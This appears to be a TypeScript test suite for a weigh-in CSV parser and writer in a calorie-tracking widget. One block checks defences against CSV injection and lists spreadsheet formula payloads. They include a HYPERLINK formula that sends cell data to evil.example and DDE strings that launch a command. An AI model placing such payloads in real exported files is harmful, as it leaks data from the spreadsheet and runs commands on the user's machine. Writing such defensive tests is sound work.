import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { checkStoredRows } from "../../../widgets/calorie-deficit-check-in/stored-weigh-ins.ts";
import {
  caloriesCell,
  CSV_HEADER,
  keepGoodWeighIns,
  readWeighInLines,
  weighInsCsv,
} from "../../../widgets/calorie-deficit-check-in/weigh-in-csv.ts";
import { readWeighInDate } from "../../../widgets/calorie-deficit-check-in/weigh-in-date.ts";
import { MAX_WEIGH_INS } from "../../../widgets/calorie-deficit-check-in/weigh-ins.ts";
import type { WeighInRow } from "../../../widgets/calorie-deficit-check-in/weigh-ins.ts";

const TODAY = "2026-11-23";
const metric = { bareIsKg: true, today: TODAY };
const imperial = { bareIsKg: false, today: TODAY };

describe("readWeighInLines", () => {
  it("reads a date and a weight in kg on each line, oldest first, skipping blank lines", () => {
    expect(readWeighInLines("2026-11-03 82.1\n\n2026-11-01 82.4\n", metric)).toEqual({
      rows: [
        { date: "2026-11-01", weightKg: 82.4, calories: "" },
        { date: "2026-11-03", weightKg: 82.1, calories: "" },
      ],
    });
  });

  it("reads CSV with a header, the calories column, quotes and Windows line ends", () => {
    const text = `${CSV_HEADER}\r\n"2026-11-01","82.4","1,850"\r\n2026-11-02,82.1,\r\n`;
    expect(readWeighInLines(text, imperial)).toEqual({
      rows: [
        { date: "2026-11-01", weightKg: 82.4, calories: "1850" },
        { date: "2026-11-02", weightKg: 82.1, calories: "" },
      ],
    });
  });

  it("reads UK dates, tabs and semicolons from a spreadsheet", () => {
    const read = readWeighInLines(
      "01/11/2026\t82.4\t1800\n2.11.2026;82;\n3-11-2026 81.9 kg",
      metric,
    );
    expect(read).toEqual({
      rows: [
        { date: "2026-11-01", weightKg: 82.4, calories: "1800" },
        { date: "2026-11-02", weightKg: 82, calories: "" },
        { date: "2026-11-03", weightKg: 81.9, calories: "" },
      ],
    });
  });

  it("reads stones and pounds, with or without the calories after them", () => {
    const read = readWeighInLines(
      "2026-11-01 12 st 13 lb 1800\n2026-11-02 12st 13\n2026-11-03 181 lb\n2026-11-04 13 st",
      imperial,
    );
    expect("rows" in read && read.rows.map((r) => [r.weightKg, r.calories])).toEqual([
      [82.1, "1800"],
      [82.1, ""],
      [82.1, ""],
      [82.55, ""],
    ]);
  });

  it("names the line and the value of the first problem, and reads nothing", () => {
    const text =
      "date,weight_kg,calories\n2026-11-01,82.4,1800\n2026-11-02,82.1,\n2026-11-03,8o,1900";
    expect(readWeighInLines(text, metric)).toEqual({
      error: "Line 4: the weight '8o' is not a number.",
      line: 4,
    });
  });

  it.each([
    [
      "2026-02-30 82",
      "Line 1: the date '2026-02-30' is not a real date. Write it like 2026-11-01 or 01/11/2026.",
    ],
    ["2999-01-01 82", "Line 1: the date '2999-01-01' is in the future."],
    ["2026-11-01 82 18oo", "Line 1: the weight '82 18oo' is not a number."],
    ["2026-11-01,82,18oo", "Line 1: the calories '18oo' are not a number."],
    ["2026-11-01,82,25000", "Line 1: the calories '25000' are outside 0 to 10,000 kcal a day."],
    ["2026-11-01,8", "Line 1: the weight '8' is outside 30 to 300 kg."],
    ["2026-11-01 12 st 20 lb", "Line 1: pounds must be less than 14 in '12 st 20 lb'."],
    ["2026-11-01", "Line 1: there is no weight."],
    ["2026-11-01,82,1800,extra", "Line 1: there are more than three values."],
    ["2026-11-01 82\n2026-11-01 81", "Line 2: 2026-11-01 is already on line 1. Keep one of them."],
  ])("explains %j", (text, message) => {
    expect(readWeighInLines(text, metric)).toMatchObject({ error: message });
  });

  it("asks for units when a bare number could be stones or pounds", () => {
    expect(readWeighInLines("2026-11-01 176", imperial)).toMatchObject({
      error: "Line 1: write the weight '176' with its units, like 12 st 13 lb or 82.4 kg.",
    });
    // A header naming weight_kg says what the numbers are.
    expect(readWeighInLines("date,weight_kg\n2026-11-01,82", imperial)).toEqual({
      rows: [{ date: "2026-11-01", weightKg: 82, calories: "" }],
    });
  });

  it("says so when there is nothing to read", () => {
    expect(readWeighInLines(`${CSV_HEADER}\n\n`, metric)).toMatchObject({ line: 0 });
  });
});

describe("readWeighInDate", () => {
  it("accepts ISO and day-first dates up to a day ahead, and says why others are not dates", () => {
    expect(readWeighInDate("2026-11-23", TODAY)).toEqual({ date: "2026-11-23" });
    expect(readWeighInDate("23/11/2026", TODAY)).toEqual({ date: "2026-11-23" });
    // The sender's today in a time zone ahead of ours can be our tomorrow.
    expect(readWeighInDate("2026-11-24", TODAY)).toEqual({ date: "2026-11-24" });
    expect(readWeighInDate("2026-11-25", TODAY)).toEqual({ problem: "future" });
    expect(readWeighInDate("0026-11-20", TODAY)).toEqual({ problem: "too-early" });
    expect(readWeighInDate("20/11/1899", TODAY)).toEqual({ problem: "too-early" });
    expect(readWeighInDate("1900-01-01", TODAY)).toEqual({ date: "1900-01-01" });
    expect(readWeighInDate("31/04/2026", TODAY)).toEqual({ problem: "not-real" });
    expect(readWeighInDate("next Tuesday", TODAY)).toEqual({ problem: "not-real" });
  });
});

describe("weighInsCsv", () => {
  it("writes the header, then date,weight_kg,calories oldest first", () => {
    const rows: WeighInRow[] = [
      { date: "2026-11-01", weightKg: 82.4, calories: "1800" },
      { date: "2026-11-02", weightKg: 82.125, calories: "" },
    ];
    expect(weighInsCsv(rows)).toBe(
      "date,weight_kg,calories\n2026-11-01,82.4,1800\n2026-11-02,82.13,\n",
    );
  });

  it("reads back every list it writes (a round trip)", () => {
    const day = fc
      .integer({ min: 0, max: 3000 })
      .map((n) => new Date(Date.UTC(2018, 0, 1) + n * 86_400_000).toISOString().slice(0, 10));
    const row = fc.record({
      date: day,
      weightKg: fc.integer({ min: 3000, max: 30000 }).map((n) => n / 100),
      calories: fc.oneof(fc.constant(""), fc.integer({ min: 0, max: 10000 }).map(String)),
    });
    fc.assert(
      fc.property(fc.uniqueArray(row, { selector: (r) => r.date, minLength: 1 }), (rows) => {
        const sorted = [...rows].sort((a, b) => (a.date < b.date ? -1 : 1));
        expect(readWeighInLines(weighInsCsv(sorted), imperial)).toEqual({ rows: sorted });
      }),
    );
  });
});

describe("files from anywhere", () => {
  it("reads a European spreadsheet: semicolons, decimal commas and thousands with a full stop", () => {
    const text =
      "Datum;date;weight_kg;calories\n".replace("Datum;", "") +
      "2026-11-01;80,4;1.850\n02/11/2026;80,1;1900\n";
    expect(readWeighInLines(text, imperial)).toEqual({
      rows: [
        { date: "2026-11-01", weightKg: 80.4, calories: "1850" },
        { date: "2026-11-02", weightKg: 80.1, calories: "1900" },
      ],
    });
  });

  it("finds the columns by their names in the header, in any order", () => {
    const text = "calories,weight_kg,date\n1800,82.4,2026-11-01\n,82.1,2026-11-02\n";
    expect(readWeighInLines(text, imperial)).toEqual({
      rows: [
        { date: "2026-11-01", weightKg: 82.4, calories: "1800" },
        { date: "2026-11-02", weightKg: 82.1, calories: "" },
      ],
    });
    const tabs = "Weight (kg)\tDate\n82.4\t01/11/2026\n";
    expect(readWeighInLines(tabs, imperial)).toEqual({
      rows: [{ date: "2026-11-01", weightKg: 82.4, calories: "" }],
    });
  });

  it("reads a pasted decimal comma as the entry box does", () => {
    expect(readWeighInLines("2026-11-02 80,5", metric)).toEqual({
      rows: [{ date: "2026-11-02", weightKg: 80.5, calories: "" }],
    });
    const read = readWeighInLines("2026-11-02 12 st 3,5 lb\n2026-11-03 12st 3.5", imperial);
    expect("rows" in read && read.rows.map((r) => r.weightKg)).toEqual([77.79, 77.79]);
  });

  it("refuses numbers a person does not write, as the entry box does", () => {
    for (const weight of ["0x50", "8e1", "Infinity", "-80"]) {
      expect(readWeighInLines(`2026-11-02,${weight}`, metric)).toMatchObject({ line: 1 });
    }
  });

  it("refuses years before 1900 instead of reading 0026 as 1926", () => {
    expect(readWeighInLines("0026-11-20 80", metric)).toEqual({
      error: "Line 1: the date '0026-11-20' is before 1900. Check the year.",
      line: 1,
    });
  });
});

describe("CSV injection (OWASP)", () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2",
    "\t=1+2",
  ];

  it.each(payloads)("never writes %j as a formula", (payload) => {
    const cell = caloriesCell(payload);
    // Quoted, and what is inside starts with none of = + - @ (nor a tab or return).
    expect(cell.startsWith('"')).toBe(true);
    expect(cell.slice(1)).not.toMatch(/^[=+\-@\t\r]/);
    const csv = weighInsCsv([{ date: "2026-11-01", weightKg: 80, calories: payload }]);
    for (const line of csv.split("\n")) {
      for (const start of line.split(",").map((c) => c.replace(/^"/, ""))) {
        expect(start).not.toMatch(/^[=+@\t\r]/);
      }
    }
    // Read back, it is a problem on its line, never a number.
    expect(readWeighInLines(csv, metric)).toMatchObject({ line: 2 });
  });

  it("writes numbers as numbers", () => {
    expect(caloriesCell("1850")).toBe("1850");
    expect(caloriesCell(" 1,850 ")).toBe("1850");
    expect(caloriesCell("")).toBe("");
  });
});

describe("a shared link keeps its good weigh-ins", () => {
  it("names each line it leaves out, and why", () => {
    const text = "date,weight_kg,calories\n2026-11-01,82.4,\n2026-11-02,8o,\n2999-01-01,82,\n";
    expect(keepGoodWeighIns(text, metric)).toEqual({
      rows: [{ date: "2026-11-01", weightKg: 82.4, calories: "" }],
      dropped: [
        "Line 3: the weight '8o' is not a number.",
        "Line 4: the date '2999-01-01' is in the future.",
      ],
    });
  });

  it("keeps the newest weigh-ins past the cap, and counts the others", () => {
    const lines = Array.from({ length: MAX_WEIGH_INS + 5 }, (_, i) => {
      const day = new Date(Date.UTC(2020, 0, 1) + i * 86_400_000).toISOString().slice(0, 10);
      return `${day},80`;
    });
    const kept = keepGoodWeighIns(lines.join("\n"), metric);
    expect(kept.rows).toHaveLength(MAX_WEIGH_INS);
    expect(kept.rows[0]?.date).toBe("2020-01-06");
    expect(kept.dropped).toEqual(["The oldest 5 weigh-ins: the check-in keeps the newest 1,000."]);
  });
});

describe("checkStoredRows", () => {
  it("keeps the good rows and names each one it drops, never throwing", () => {
    const stored = [
      { date: "2026-11-01", weightKg: 82.4, calories: "1800" },
      { date: "2026-02-31", weightKg: 80, calories: "" },
      { date: "2026-11-02", weightKg: 9000, calories: "" },
      { date: "2026-11-01", weightKg: 81, calories: "" },
      null,
      "row",
      { date: "0026-11-20", weightKg: 80 },
    ];
    expect(checkStoredRows(stored, TODAY)).toEqual({
      rows: [{ date: "2026-11-01", weightKg: 82.4, calories: "1800" }],
      dropped: [
        "The weigh-in for 2026-02-31: its date is not a real day.",
        "The weigh-in for 2026-11-02: its weight is not one we can use.",
        "The weigh-in for 2026-11-01: there is another on the same day.",
        "Saved weigh-in 5: its date is not a real day.",
        "Saved weigh-in 6: its date is not a real day.",
        "The weigh-in for 0026-11-20: its date is not a real day.",
      ],
    });
    expect(checkStoredRows("nothing", TODAY)).toEqual({ rows: [], dropped: [] });
  });
});
